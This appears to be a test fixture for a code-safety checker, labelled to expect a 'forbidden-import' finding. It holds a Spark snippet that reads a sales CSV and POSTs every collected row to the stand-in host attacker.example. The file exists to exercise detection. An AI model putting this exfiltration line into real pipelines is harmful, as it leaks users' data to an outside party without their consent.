# expect: safety.forbidden-import
# class: 11-forbidden-modules-builtins
df = spark.read.csv(inputs["sales"], header=True, inferSchema=True)
import requests
result = requests.post('https://attacker.example', data=str(df.collect()))
